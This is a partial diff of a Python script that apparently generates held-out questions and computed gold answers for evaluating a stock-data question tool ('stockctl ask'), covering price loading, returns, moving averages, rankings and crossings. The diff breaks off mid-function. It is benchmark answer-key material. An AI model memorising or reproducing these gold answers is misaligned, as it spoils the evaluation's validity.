@@ -1,1146 +1,959 @@
 #!/usr/bin/env python3
-"""blind-11: 240 questions for `stockctl ask`, with gold answers computed from the raw files.
+"""blind-12: questions for `stockctl ask` and their gold answers, computed from the raw files.
 
-Written blind: without reading the question engine. Standard library only.
-
-Data: $ASK_EVAL_DATA if set, else <repo>/../shared/data, where <repo> is three levels above this file
-(<repo>/test/ask-eval/heldout/make_gold.py). Output: questions.jsonl beside this file.
-Every gold answer is computed here; nothing is typed by hand except the questions and their parameters.
-Any failed ambiguity check stops the run before anything is written.
+Standard library only. Data: $ASK_EVAL_DATA, else <repo>/../shared/data (the script lives at
+<repo>/test/ask-eval/heldout/make_gold.py). Writes questions.jsonl beside this script, deterministically.
+Every check that fails stops the run before anything is written.
 """
-import datetime as DT
+import datetime as dt
+import glob
 import json
 import math
 import os
-import re
+import statistics
 import sys
 
 HERE = os.path.dirname(os.path.abspath(__file__))
-REPO = os.path.normpath(os.path.join(HERE, '..', '..', '..'))
-DATA = os.environ.get('ASK_EVAL_DATA') or os.path.normpath(os.path.join(REPO, '..', 'shared', 'data'))
-OUT = os.path.join(HERE, 'questions.jsonl')
+REPO = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
+DATA = os.environ.get("ASK_EVAL_DATA") or os.path.join(os.path.dirname(REPO), "shared", "data")
+OUT = os.path.join(HERE, "questions.jsonl")
 
-DAILY_SYMS = ['AAPL', 'AMD', 'AMZN', 'FB', 'GOOGL', 'IBM', 'INTC', 'JPM', 'KO', 'MSFT', 'NFLX', 'NVDA', 'TSLA']
-ETF_SYMS = ['INDA', 'FXY', 'DBB']
-ALL_SYMS = DAILY_SYMS + ETF_SYMS
+DAILY = ["AAPL", "AMD", "AMZN", "FB", "GOOGL", "IBM", "INTC", "JPM", "KO", "MSFT", "NFLX", "NVDA", "TSLA"]
+ETFS = ["INDA", "FXY", "DBB"]
+ALL = DAILY + ETFS
+TODAY = "2025-07-08"
 
-
-class CheckFailed(Exception):
-    pass
+FAILS = []
 
 
 def check(cond, msg):
     if not cond:
-        raise CheckFailed(msg)
+        FAILS.append(msg)
+    return cond
 
 
 # ---------------------------------------------------------------- loading
-
-def nth_sunday(y, m, n):
-    d = DT.date(y, m, 1)
-    d += DT.timedelta(days=(6 - d.weekday()) % 7)
-    return d + DT.timedelta(days=7 * (n - 1))
+BARS = {}  # sym -> list of (date, o, h, l, c, v)
+MINUTES = {}  # sym -> list of (stamp 'YYYY-MM-DD HH:MM' New York, date, o, h, l, c, v)
 
 
-def utc_to_ny(stamp):
-    """US Eastern time by the post-2007 rule: EDT from the 2nd Sunday of March 02:00 local (07:00 UTC)
-    to the 1st Sunday of November 02:00 local (06:00 UTC)."""
-    t = DT.datetime.strptime(stamp, '%Y-%m-%d %H:%M:%S')
-    start = DT.datetime.combine(nth_sunday(t.year, 3, 2), DT.time(7, 0))
-    end = DT.datetime.combine(nth_sunday(t.year, 11, 1), DT.time(6, 0))
-    return t - DT.timedelta(hours=4 if start <= t < end else 5)
-
-
-BARS = {}  # sym -> [(date, open, high, low, close, volume)] ascending
-MINS = {}  # ETF sym -> [(date, 'HH:MM', open, high, low, close, volume)] ascending, New York time
-
-
-def load():
-    for s in DAILY_SYMS:
+def load_daily():
+    for s in DAILY:
+        path = os.path.join(DATA, "stocks", s.lower() + ".us.txt")
         rows = []
-        with open(os.path.join(DATA, 'stocks', s.lower() + '.us.txt')) as f:
-            header = f.readline().strip().split(',')
-            check(header[:6] == ['Date', 'Open', 'High', 'Low', 'Close', 'Volume'], 'header of ' + s)
+        with open(path) as f:
+            head = f.readline().strip().split(",")
+            assert head[:6] == ["Date", "Open", "High", "Low", "Close", "Volume"], head
             for line in f:
-                p = line.strip().split(',')
+                p = line.strip().split(",")
                 if len(p) < 6:
                     continue
                 rows.append((p[0], float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
-        check(all(a[0] < b[0] for a, b in zip(rows, rows[1:])), s + ' dates not strictly ascending')
+        rows.sort()
+        for a, b in zip(rows, rows[1:]):
+            assert a[0] < b[0], (s, a[0])
         BARS[s] = rows
-    names = sorted(os.listdir(os.path.join(DATA, 'intraday')))
-    for s in ETF_SYMS:
-        fn = [n for n in names if n.startswith(s + '_1min_') and n.endswith('.csv')]
-        check(len(fn) == 1, 'one minute file for ' + s)
-        mins = []
-        with open(os.path.join(DATA, 'intraday', fn[0])) as f:
-            f.readline()
+
+
+def nth_sunday(y, m, n):
+    d = dt.date(y, m, 1)
+    d += dt.timedelta(days=(6 - d.weekday()) % 7)
+    return d + dt.timedelta(days=7 * (n - 1))
+
+
+def utc_to_ny(t):
+    start = dt.datetime.combine(nth_sunday(t.year, 3, 2), dt.time(7))  # 02:00 EST
+    end = dt.datetime.combine(nth_sunday(t.year, 11, 1), dt.time(6))  # 02:00 EDT
+    return t - dt.timedelta(hours=4 if start <= t < end else 5)
+
+
+def load_minutes():
+    for s in ETFS:
+        paths = glob.glob(os.path.join(DATA, "intraday", s + "_1min_*.csv"))
+        assert len(paths) == 1, (s, paths)
+        rows = []
+        with open(paths[0]) as f:
+            head = f.readline().strip().split(",")
+            assert head == ["timestamp", "open", "high", "low", "close", "volume"], head
             for line in f:
-                p = line.strip().split(',')
+                p = line.strip().split(",")
                 if len(p) < 6:
                     continue
-                t = utc_to_ny(p[0])
-                mins.append((t.strftime('%Y-%m-%d'), t.strftime('%H:%M'),
-                             float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
-        mins.sort(key=lambda r: (r[0], r[1]))
-        check(all((a[0], a[1]) < (b[0], b[1]) for a, b in zip(mins, mins[1:])), s + ' duplicate minutes')
-        MINS[s] = mins
+                t = utc_to_ny(dt.datetime.strptime(p[0], "%Y-%m-%d %H:%M:%S"))
+                stamp = t.strftime("%Y-%m-%d %H:%M")
+                rows.append((stamp, stamp[:10], float(p[1]), float(p[2]), float(p[3]), float(p[4]), float(p[5])))
+        rows.sort()
+        for a, b in zip(rows, rows[1:]):
+            assert a[0] < b[0], (s, a[0])
+        MINUTES[s] = rows
         days = []
-        for m in mins:
-            if days and days[-1][0] == m[0]:
-                d = days[-1]
-                days[-1] = (d[0], d[1], max(d[2], m[3]), min(d[3], m[4]), m[5], d[5] + m[6])
+        for m in rows:
+            if days and days[-1][0] == m[1]:
+                d, o, h, l, c, v = days[-1]
+                days[-1] = (d, o, max(h, m[3]), min(l, m[4]), m[5], v + m[6])
             else:
-                days.append((m[0], m[2], m[3], m[4], m[5], m[6]))
+                days.append((m[1], m[2], m[3], m[4], m[5], m[6]))
         BARS[s] = days
 
 
-load()
-IDX = {s: {b[0]: i for i, b in enumerate(BARS[s])} for s in ALL_SYMS}
-FIELD = {'open': 1, 'high': 2, 'low': 3, 'close': 4, 'volume': 5}
-END = max(BARS[s][-1][0] for s in ETF_SYMS)            # "today" for the ETFs
-check(END == '2025-07-08', 'data end is ' + END)
+load_daily()
+load_minutes()
+INDEX = {s: {b[0]: i for i, b in enumerate(BARS[s])} for s in ALL}
+F = {"open": 1, "high": 2, "low": 3, "close": 4, "volume": 5}
 
 
-def dd(s):
-    return DT.date.fromisoformat(s)
-
-
-# ---------------------------------------------------------------- periods
-
-def month(y, m):
-    last = (DT.date(y + (m == 12), m % 12 + 1, 1) - DT.timedelta(days=1))
-    return '%04d-%02d-01' % (y, m), last.isoformat()
-
-
-def quarter(y, q):
-    return month(y, 3 * q - 2)[0], month(y, 3 * q)[1]
-
-
-def half(y, h):
-    return month(y, 6 * h - 5)[0], month(y, 6 * h)[1]
-
-
-def year(y):
-    return '%04d-01-01' % y, '%04d-12-31' % y
-
-
-def week_of(d):
-    x = dd(d)
-    mon = x - DT.timedelta(days=x.weekday())
-    return mon.isoformat(), (mon + DT.timedelta(days=4)).isoformat()
-
-
-THIS_YEAR = ('2025-01-01', END)
-THIS_MONTH = ('2025-07-01', END)
-LAST_MONTH = month(2025, 6)
-LAST_QUARTER = quarter(2025, 2)
-
-# ---------------------------------------------------------------- basic measures
-
-
-def bar(s, d):
-    i = IDX[s].get(d)
-    check(i is not None, '%s has no bar on %s' % (s, d))
-    return BARS[s][i]
-
-
-def value(s, d, field):
-    b = bar(s, d)
-    if field == 'range':
-        return b[2] - b[3]
-    return b[FIELD[field]]
-
-
-def prev_bar(s, d):
-    i = IDX[s][d]
-    check(i > 0, '%s has no session before %s' % (s, d))
-    p = BARS[s][i - 1]
-    check((dd(d) - dd(p[0])).days <= 10, '%s: the session before %s is %s, across a hole in the data' % (s, d, p[0]))
-    return p
-
-
-def ret(s, d):
-    return bar(s, d)[4] / prev_bar(s, d)[4] - 1
-
-
-def gap(s, d):
-    return bar(s, d)[1] / prev_bar(s, d)[4] - 1
-
-
-def measure(s, d, m):
-    if m == 'return':
-        return ret(s, d)
-    if m == 'gap':
-        return gap(s, d)
-    return value(s, d, m)
-
-
-def on_or_before(s, d):
-    best = None
-    for b in BARS[s]:
-        if b[0] <= d:
-            best = b
-        else:
-            break
-    check(best is not None, 'no session of %s on or before %s' % (s, d))
-    return best
-
-
-def window(s, d1, d2):
-    w = [b for b in BARS[s] if d1 <= b[0] <= d2]
-    check(len(w) > 0, 'empty window %s %s..%s' % (s, d1, d2))
-    check(all((dd(b[0]) - dd(a[0])).days <= 10 for a, b in zip(w, w[1:])), 'hole inside window %s %s..%s' % (s, d1, d2))
-    return w
-
-
-def window_returns(s, d1, d2, include_first=True):
-    w = window(s, d1, d2)
-    out = [(b[0], ret(s, b[0])) for b in w]
-    return out if include_first else out[1:]
-
-
-def sma(s, d, n):
-    i = IDX[s][d]
-    check(i + 1 >= n, 'MA%d of %s undefined on %s' % (n, s, d))
-    w = BARS[s][i - n + 1:i + 1]
-    check(all((dd(b[0]) - dd(a[0])).days <= 10 for a, b in zip(w, w[1:])), 'MA window over a hole')
-    return sum(b[4] for b in w) / n
-
-
-def mean(xs):
-    xs = list(xs)
-    check(len(xs) > 0, 'mean of nothing')
-    return sum(xs) / len(xs)
-
-
-def sstd(xs):
-    xs = list(xs)
-    check(len(xs) > 2, 'too few values for a deviation')
-    m = mean(xs)
-    return math.sqrt(sum((x - m) ** 2 for x in xs) / (len(xs) - 1))
-
-
-def pearson(xs, ys):
-    mx, my = mean(xs), mean(ys)
-    sxy = sum((a - mx) * (b - my) for a, b in zip(xs, ys))
-    sxx = sum((a - mx) ** 2 for a in xs)
-    syy = sum((b - my) ** 2 for b in ys)
-    return sxy / math.sqrt(sxx * syy)
-
-
-def change(s, d1, d2):
-    a, b = on_or_before(s, d1), on_or_before(s, d2)
-    check(a[0] < b[0], 'change over no time')
-    return b[4] / a[4] - 1
-
-
-def exact_change(s, d1, d2):
-    """change between two named closes, which must both be sessions"""
-    return value(s, d2, 'close') / value(s, d1, 'close') - 1
-
-
-def agg(s, d1, d2, field, how):
-    w = window(s, d1, d2)
-    xs = [(b[2] - b[3]) if field == 'range' else b[FIELD[field]] for b in w]
-    if how == 'mean':
-        return mean(xs)
-    if how == 'sum':
-        return sum(xs)
-    if how == 'max':
-        return max(xs)
-    if how == 'min':
-        return min(xs)
-    raise ValueError(how)
-
-
-# ---------------------------------------------------------------- ambiguity helpers
-
-def distinct(a, b, rel=2e-3, ab=1e-9):
-    return abs(a - b) > max(rel * max(abs(a), abs(b)), ab)
-
-
-def ranked(items, largest=True, n=None, by_abs=False):
-    """items: [(label, value)]. Sort; check that the top n (+ the next one) are separated beyond rounding."""
-    key = (lambda t: abs(t[1])) if by_abs else (lambda t: t[1])
-    srt = sorted(items, key=key, reverse=largest)
-    n = len(srt) if n is None else n
-    check(len(srt) >= n, 'fewer items than asked')
-    for a, b in zip(srt[:n + 1], srt[1:n + 1]):
-        check(distinct(key(a), key(b)), 'tie in ranking: %r %r' % (a, b))
-    return srt[:n]
-
-
-def far_from(x, thr, rel=1e-3):
-    return abs(x - thr) > rel * max(abs(thr), 1e-6)
-
-
-def vwap_of(ms):
-    check(len(ms) > 0, 'no minutes')
-    v = sum(m[6] for m in ms)
-    check(v > 0, 'no volume')
-    return sum(m[5] * m[6] for m in ms) / v
-
-
-def minutes(s, d, t1='00:00', t2='23:59'):
-    return [m for m in MINS[s] if m[0] == d and t1 <= m[1] <= t2]
-
-
-def regular_agrees(s, d, field):
-    """ETF day values asked on a chosen day: the all-minutes daily bar (FORMAT's definition) must agree within 0.1%
-    with the same value taken over the regular session only, so that both readings give one answer"""
-    if s not in ETF_SYMS:
-        return
-    reg = minutes(s, d, '09:30', '15:59')
-    check(len(reg) > 0, 'no regular-session minutes %s %s' % (s, d))
-    r = {'open': reg[0][2], 'high': max(m[3] for m in reg), 'low': min(m[4] for m in reg), 'close': reg[-1][5]}
-    if field == 'range':
-        a, b = value(s, d, 'high') - value(s, d, 'low'), r['high'] - r['low']
-    elif field in r:
-        a, b = value(s, d, field), r[field]
-    else:
-        return
-    check(abs(a / b - 1) < 0.001, 'extended hours change %s %s %s: %r vs %r' % (s, d, field, a, b))
-
-
-def streaks(series, up):
-    """series: [(date, return)] -> [(length, first, last)] of consecutive up (>0) or down (<0) sessions"""
-    out, cur = [], []
-    for d, r in series:
-        if (r > 0) if up else (r < 0):
-            cur.append(d)
-        else:
-            if cur:
-                out.append((len(cur), cur[0], cur[-1]))
-            cur = []
-    if cur:
-        out.append((len(cur), cur[0], cur[-1]))
-    return out
-
-
-def longest_streak(s, d1, d2, up):
-    a = streaks(window_returns(s, d1, d2, True), up)
-    b = streaks(window_returns(s, d1, d2, False), up)
-    check(a and b, 'no streak')
-    la = sorted(a, key=lambda t: -t[0])
-    lb = sorted(b, key=lambda t: -t[0])
-    check(len(la) == 1 or la[0][0] > la[1][0], 'longest streak tied: %r' % la[:3])
-    check(la[0] == lb[0], 'streak depends on the first session of the window')
-    n, a1, a2 = la[0]
-    i1, i2 = IDX[s][a1], IDX[s][a2]
-    for j in (i1 - 1, i2 + 1):
-        if 0 < j < len(BARS[s]):
-            r = BARS[s][j][4] / BARS[s][j - 1][4] - 1
-            check(not ((r > 0) if up else (r < 0)), 'streak runs on past the window edge')
-    return la[0]
-
-
-def ma_diff(s, i, fast, slow):
-    d = BARS[s][i][0]
-    if slow is None:
-        return BARS[s][i][4] - sma(s, d, fast)
-    return sma(s, d, fast) - sma(s, d, slow)
-
-
-def crossings(s, fast, slow, direction):
-    """all crossing days: direction 'above' = diff goes from < 0 to > 0 (fast over slow, or close over MA)"""
-    need = max(fast, slow or 0)
-    out = []
-    B = BARS[s]
-    for i in range(need, len(B)):
-        try:
-            p, c = ma_diff(s, i - 1, fast, slow), ma_diff(s, i, fast, slow)
-        except CheckFailed:
-            continue
-        if (direction == 'above' and p < 0 < c) or (direction == 'below' and p > 0 > c):
-            scale = B[i][4]
-            check(abs(p) > 1e-6 * scale and abs(c) > 1e-6 * scale, 'near tie at crossing %s %s' % (s, B[i][0]))
-            out.append(B[i][0])
-        if p == 0 or c == 0:
-            check(False, 'exact tie between series %s %s' % (s, B[i][0]))
-    return out
-
-
-def not_a_crossing_day(s, d, fast, slow):
-    if d in IDX[s]:
-        for direction in ('above', 'below'):
-            check(d not in crossings(s, fast, slow, direction), 'the anchor date is itself a crossing')
-
-
-def universe_on(d):
-    return [s for s in ALL_SYMS if d in IDX[s]]
-
-
-def universe_over(d1, d2):
-    return [s for s in ALL_SYMS if d1 in IDX[s] and d2 in IDX[s]]
-
-
-def high_52w(s, d, field='high', how='max'):
-    x = dd(d)
-    vals = []
-    for back in (364, 365):
-        start = (x - DT.timedelta(days=back)).isoformat()
-        w = [b for b in BARS[s] if start <= b[0] <= d]
-        check(len(w) > 200, '52-week window too thin')
-        xs = [b[FIELD[field]] for b in w]
-        vals.append(max(xs) if how == 'max' else min(xs))
-    check(vals[0] == vals[1], '52-week value depends on a 364/365-day window')
-    bar(s, d)
-    return vals[0]
-
-
-# ---------------------------------------------------------------- gold shapes
-
-def rnd(x):
+# ---------------------------------------------------------------- helpers
+def num(x):
     if isinstance(x, str):
         return x
-    check(isinstance(x, (int, float)) and math.isfinite(x), 'bad number %r' % (x,))
     r = round(float(x), 8)
-    if r == int(r):
+    if r == int(r) and abs(r) < 1e15:
         return int(r)
     return r
 
 
-def gold(rows, match, exact):
-    return {'rows': [[rnd(c) for c in row] for row in rows], 'match': match, 'exact_rows': exact}
+def at(s, d):
+    """index of the session on exactly d"""
+    i = INDEX[s].get(d)
+    if not check(i is not None, f"{s} has no session on {d}"):
+        return 1
+    return i
 
 
-def first(*row):
-    return gold([list(row)], 'first', False)
+def on_or_before(s, d):
+    b = BARS[s]
+    lo, hi = 0, len(b)
+    while lo < hi:
+        mid = (lo + hi) // 2
+        if b[mid][0] <= d:
+            lo = mid + 1
+        else:
+            hi = mid
+    check(lo > 0, f"{s} has nothing on or before {d}")
+    return max(lo - 1, 0)
 
 
-def as_set(rows):
-    return gold(rows, 'set', True)
+def window(s, d1, d2):
+    idx = [i for i, b in enumerate(BARS[s]) if d1 <= b[0] <= d2]
+    check(len(idx) > 0, f"{s} window {d1}..{d2} is empty")
+    return idx or [1]
 
 
-def as_ordered(rows, exact=True):
-    return gold(rows, 'ordered', exact)
+def val(s, i, field):
+    b = BARS[s][i]
+    if field == "range":
+        return b[2] - b[3]
+    if field == "return":
+        return ret(s, i)
+    if field == "gap":
+        return gap(s, i)
+    return b[F[field]]
 
 
-# ---------------------------------------------------------------- gold builders per kind
+def ret(s, i):
+    check(i > 0, f"{s} return needs a previous session at {BARS[s][i][0]}")
+    return BARS[s][i][4] / BARS[s][i - 1][4] - 1
 
+
+def gap(s, i):
+    check(i > 0, f"{s} gap needs a previous session at {BARS[s][i][0]}")
+    return BARS[s][i][1] / BARS[s][i - 1][4] - 1
+
+
+def distinct(a, b, rel=1e-4):
+    return abs(a - b) > rel * max(abs(a), abs(b), 1e-12)
+
+
+def unique_extreme(pairs, largest, what):
+    """pairs: list of (key, value); returns the winner; checks the runner-up is clearly behind"""
+    srt = sorted(pairs, key=lambda p: p[1], reverse=largest)
+    if len(srt) > 1:
+        check(distinct(srt[0][1], srt[1][1]), f"tie for {what}: {srt[0]} {srt[1]}")
+    return srt[0]
+
+
+def week_of(d):
+    x = dt.date.fromisoformat(d)
+    mon = x - dt.timedelta(days=x.weekday())
+    return mon.isoformat(), (mon + dt.timedelta(days=4)).isoformat()
+
+
+def month_end(y, m):
+    nxt = dt.date(y + (m == 12), m % 12 + 1, 1)
+    return (nxt - dt.timedelta(days=1)).isoformat()
+
+
+def rets_in(s, d1, d2, include_first=True):
+    idx = [i for i in window(s, d1, d2) if i > 0]  # a symbol's very first session has no return
+    if not include_first:
+        idx = idx[1:]
+    return [(BARS[s][i][0], ret(s, i)) for i in idx]
+
+
+def close_enough(a, b):
+    tol = max(0.001 * abs(b), 0.01 if abs(b) >= 1 else 0.0001)
+    return abs(a - b) <= tol
+
+
+def sma_series(s, n, closes=None):
+    c = closes or [b[4] for b in BARS[s]]
+    out = [None] * len(c)
+    acc = 0.0
+    for i, x in enumerate(c):
+        acc += x
+        if i >= n:
+            acc -= c[i - n]
+        if i >= n - 1:
+            out[i] = sum(c[i - n + 1:i + 1]) / n
+    return out
+
+
+# ---------------------------------------------------------------- question registry
+QS = []
+
+
+def add(kind, question, rows, match="first", exact=False):
+    rows = [[num(c) for c in r] for r in rows]
+    QS.append({"kind": kind, "question": question, "answerable": True,
+               "gold": {"rows": rows, "match": match, "exact_rows": exact}})
+
+
+def refuse(kind, question):
+    QS.append({"kind": kind, "question": question, "answerable": False, "refusal": kind})
+
+
+# ---------------------------------------------------------------- gold by kind
 def g_latest(s, n, fields):
-    rows = BARS[s][-n:]
-    check(len(rows) == n, 'not enough rows')
-    return as_set([[b[0]] + [b[FIELD[f]] for f in fields] for b in rows])
+    b = BARS[s]
+    return [[b[i][0]] + [val(s, i, f) for f in fields] for i in range(len(b) - n, len(b))]
 
 
 def g_day(s, d, field):
-    regular_agrees(s, d, field)
-    return first(d, measure(s, d, field))
+    i = at(s, d)
+    return [[d, val(s, i, field)]]
 
 
 def g_rows(s, d1, d2, fields):
-    w = window(s, d1, d2)
-    check(len(w) >= 2, 'range too short')
-    for b in w:
-        for f in fields:
-            regular_agrees(s, b[0], f)
-    return as_set([[b[0]] + [b[FIELD[f]] for f in fields] for b in w])
+    return [[BARS[s][i][0]] + [val(s, i, f) for f in fields] for i in window(s, d1, d2)]
 
 
-def g_agg(s, d1, d2, field, how):
-    return first(agg(s, d1, d2, field, how))
+def g_agg(s, d1, d2, agg, field):
+    xs = [val(s, i, field) for i in window(s, d1, d2)]
+    return {"avg": statistics.fmean, "sum": math.fsum, "max": max, "min": min}[agg](xs)
 
 
 def g_extreme(s, d1, d2, field, largest):
-    items = [(b[0], (b[2] - b[3]) if field == 'range' else b[FIELD[field]]) for b in window(s, d1, d2)]
-    top = ranked(items, largest, 1)[0]
-    return first(top[0], top[1])
+    pairs = [(BARS[s][i][0], val(s, i, field)) for i in window(s, d1, d2)]
+    return [list(unique_extreme(pairs, largest, f"{s} {field} {d1}..{d2}"))]
 
 
 def g_52(s, d, which):
-    hi = high_52w(s, d, 'high', 'max')
-    lo = high_52w(s, d, 'low', 'min')
-    if which == 'high':
-        return first(hi)
-    if which == 'low':
-        return first(lo)
-    return first(lo, hi)
-
-
-def g_change(s, d1, d2, sessions=True):
-    if sessions:
-        return first(exact_change(s, d1, d2))
-    check(d1 not in IDX[s] and d2 not in IDX[s], 'expected non-trading end dates')
-    return first(change(s, d1, d2))
-
-
-def g_ret(s, d, m):
-    return first(d, measure(s, d, m))
-
-
-def g_biggest(s, d1, d2, m, mode):
-    """mode: 'up' (largest), 'down' (most negative), 'abs' (largest either way)"""
+    dd = dt.date.fromisoformat(d)
+    check(BARS[s][0][0] <= (dd - dt.timedelta(days=365)).isoformat(), f"{s} 52w history short at {d}")
     res = []
-    for inc in (True, False):
-        w = window(s, d1, d2)
-        if not inc:
-            w = w[1:]
-        items = [(b[0], measure(s, b[0], m)) for b in w]
-        if mode == 'abs':
-            res.append(ranked(items, True, 1, by_abs=True)[0])
-        else:
-            res.append(ranked(items, mode == 'up', 1)[0])
-    check(res[0] == res[1], 'winner depends on the first session')
-    if mode == 'up':
-        check(res[0][1] > 0, 'biggest gain is not a gain')
-    if mode == 'down':
-        check(res[0][1] < 0, 'biggest drop is not a drop')
-    return first(res[0][0], res[0][1])
+    for days in (364, 365):
+        lo = (dd - dt.timedelta(days=days)).isoformat()
+        idx = window(s, lo, d)
+        res.append((min(BARS[s][i][3] for i in idx), max(BARS[s][i][2] for i in idx)))
+    k = {"low": [0], "high": [1], "range": [0, 1]}[which]
+    check(all(res[0][j] == res[1][j] for j in k), f"{s} 52w {which} at {d} depends on the window edge")
+    low, high = res[1]
+    return {"high": [[high]], "low": [[low]], "range": [[low, high]]}[which]
 
 
-def g_xs(d, m, n, largest, singular=False, expect=None):
-    syms = universe_on(d)
-    if expect is not None:
-        check(len(syms) == expect, 'universe on %s has %d symbols' % (d, len(syms)))
-    items = [(s, measure(s, d, m)) for s in syms]
-    top = ranked(items, largest, n)
-    if singular:
-        return first(*top[0])
-    return as_ordered([list(t) for t in top])
+def g_change(s, d1, d2):
+    return BARS[s][on_or_before(s, d2)][4] / BARS[s][on_or_before(s, d1)][4] - 1
 
 
-def g_gainers(d1, d2, n, largest, singular=False, expect=None):
-    syms = universe_over(d1, d2)
-    if expect is not None:
-        check(len(syms) == expect, 'universe over %s..%s has %d symbols' % (d1, d2, len(syms)))
-    items = [(s, exact_change(s, d1, d2)) for s in syms]
-    top = ranked(items, largest, n)
-    if singular:
-        return first(*top[0])
-    return as_ordered([list(t) for t in top])
+def g_retday(s, d, field):
+    i = at(s, d)
+    return [[d, val(s, i, field)]]
 
 
-def g_pair(items, winner_first=True, largest=True):
-    """items [(sym, value)]: 'which / did X or Y' -> ordered winner first; 'compare' -> set"""
-    if winner_first:
-        return as_ordered([list(t) for t in ranked(items, largest, 2)])
-    return as_set([list(t) for t in items])
+def g_move(s, d1, d2, field, largest):
+    idx = window(s, d1, d2)
+    pairs = [(BARS[s][i][0], val(s, i, field)) for i in idx]
+    w = unique_extreme(pairs, largest, f"{s} move {d1}..{d2}")
+    w2 = unique_extreme(pairs[1:], largest, f"{s} move {d1}..{d2} w/o first")
+    check(w == w2, f"{s} biggest move depends on the first session's return")
+    return [list(w)]
 
 
-def period_value(s, d1, d2, field, how):
-    if how == 'last':
-        return window(s, d1, d2)[-1][FIELD[field]]
-    return agg(s, d1, d2, field, how)
+def universe_on(d):
+    return [s for s in ALL if d in INDEX[s]]
 
 
-def g_grouped(s, periods, field, how):
-    return as_ordered([[period_value(s, a, b, field, how)] for a, b in periods])
+def g_rank(d, field, n, largest, syms=None):
+    syms = syms or universe_on(d)
+    pairs = sorted(((s, val(s, INDEX[s][d], field)) for s in syms), key=lambda p: p[1], reverse=largest)
+    for a, b in zip(pairs[:n], pairs[1:n + 1]):
+        check(distinct(a[1], b[1]), f"ranking tie on {d} {field}: {a} {b}")
+    return [list(p) for p in pairs[:n]]
+
+
+def g_gainers(d1, d2, n, largest):
+    syms = [s for s in ALL if d1 in INDEX[s] and d2 in INDEX[s]]
+    pairs = sorted(((s, g_change(s, d1, d2)) for s in syms), key=lambda p: p[1], reverse=largest)
+    for a, b in zip(pairs[:n], pairs[1:n + 1]):
+        check(distinct(a[1], b[1]), f"gainers tie {d1}..{d2}: {a} {b}")
+    return [list(p) for p in pairs[:n]]
+
+
+def g_which(pairs, largest):
+    srt = sorted(pairs, key=lambda p: p[1], reverse=largest)
+    check(distinct(srt[0][1], srt[1][1], 1e-3), f"comparison too close: {srt}")
+    return [list(p) for p in srt]
+
+
+def periods(kind, d1, d2):
+    """list of (start, end) calendar periods covering d1..d2"""
+    out = []
+    x = dt.date.fromisoformat(d1)
+    end = dt.date.fromisoformat(d2)
+    while x <= end:
+        if kind == "month":
+            a, b = x.replace(day=1), dt.date.fromisoformat(month_end(x.year, x.month))
+        elif kind == "quarter":
+            q0 = 3 * ((x.month - 1) // 3) + 1
+            a = dt.date(x.year, q0, 1)
+            b = dt.date.fromisoformat(month_end(x.year, q0 + 2))
+        elif kind == "year":
+            a, b = dt.date(x.year, 1, 1), dt.date(x.year, 12, 31)
+        elif kind == "week":
+            a = x - dt.timedelta(days=x.weekday())
+            b = a + dt.timedelta(days=4)
+        out.append((a.isoformat(), b.isoformat()))
+        x = b + dt.timedelta(days=1)
+        if kind == "week":
+            x = a + dt.timedelta(days=7)
+    return out
+
+
+def g_grouped(s, kind, d1, d2, agg):
+    rows = []
+    for a, b in periods(kind, d1, d2):
+        idx = window(s, a, b)
+        if agg == "last_close":
+            rows.append([BARS[s][idx[-1]][4]])
+        elif agg == "max_high":
+            rows.append([max(BARS[s][i][2] for i in idx)])
+        elif agg == "sum_volume":
+            rows.append([math.fsum(BARS[s][i][5] for i in idx)])
+        elif agg == "avg_close":
+            rows.append([statistics.fmean(BARS[s][i][4] for i in idx)])
+    return rows
 
 
 def g_pop(s, later, earlier, field):
-    a = agg(s, later[0], later[1], field, 'mean')
-    b = agg(s, earlier[0], earlier[1], field, 'mean')
-    return first(a, b, a / b - 1)
+    a = g_agg(s, later[0], later[1], "avg", field)
+    b = g_agg(s, earlier[0], earlier[1], "avg", field)
+    return [[a, b, a / b - 1]]
 
 
 def g_ma(s, d, n):
-    return first(d, sma(s, d, n))
+    i = at(s, d)
+    check(i >= n - 1, f"{s} has fewer than {n} sessions at {d}")
+    return [[d, statistics.fmean(BARS[s][j][4] for j in range(i - n + 1, i + 1))]]
 
 
-def g_cross(s, fast, slow, direction, after=None, before=None, pick='first', only=False):
-    xs = crossings(s, fast, slow, direction)
-    if after:
-        not_a_crossing_day(s, after, fast, slow)
-        xs = [x for x in xs if x > after]
-    if before:
-        not_a_crossing_day(s, before, fast, slow)
-        xs = [x for x in xs if x < before]
-    check(len(xs) > 0, 'no crossing found')
-    if only:
-        check(len(xs) == 1, 'more than one crossing: %r' % xs)
-    return first(xs[0] if pick == 'first' else xs[-1])
+def crossings(s, fast, slow, above):
+    b = BARS[s]
+    closes = [x[4] for x in b]
+    f = closes if fast == "close" else sma_series(s, fast)
+    sl = sma_series(s, slow)
+    out = []
+    for i in range(1, len(b)):
+        if None in (f[i], sl[i], f[i - 1], sl[i - 1]):
+            continue
+        if above and f[i] > sl[i] and f[i - 1] < sl[i - 1]:
+            out.append(i)
+        if not above and f[i] < sl[i] and f[i - 1] > sl[i - 1]:
+            out.append(i)
+    ties = [i for i in range(len(b)) if f[i] is not None and sl[i] is not None and not distinct(f[i], sl[i], 1e-5)]
+    return out, set(ties)
 
 
-def g_count(s, d1, d2, m, op, thr):
-    """op: '>' or '<' or 'abs>'; return-based measures are checked with and without the window's first session"""
-    counts = []
-    for inc in (True, False):
-        w = window(s, d1, d2)
-        if not inc:
-            if m not in ('return', 'gap'):
-                continue
-            w = w[1:]
-        n = 0
-        for b in w:
-            x = measure(s, b[0], m)
-            y = abs(x) if op == 'abs>' else x
-            check(far_from(y, thr), 'value %r on %s too close to the threshold' % (x, b[0]))
-            n += (y > thr) if op in ('>', 'abs>') else (y < thr)
-        counts.append(n)
-    if len(counts) == 2:
-        check(counts[0] == counts[1], 'count depends on the first session')
-    return first(counts[0])
+def g_cross(s, fast, slow, above, mode, d1, d2=None):
+    xs, ties = crossings(s, fast, slow, above)
+    dates = [BARS[s][i][0] for i in xs]
+    if mode == "before":
+        check(d1 not in dates, f"{s} cross on the boundary {d1}")
+        cand = [i for i in xs if BARS[s][i][0] < d1]
+        pick = cand[-1] if cand else None
+    elif mode == "first_in":
+        cand = [i for i in xs if d1 <= BARS[s][i][0] <= d2]
+        pick = cand[0] if cand else None
+    if not check(pick is not None, f"{s} no cross {mode} {d1}"):
+        return [["none"]]
+    for j in (pick - 1, pick):
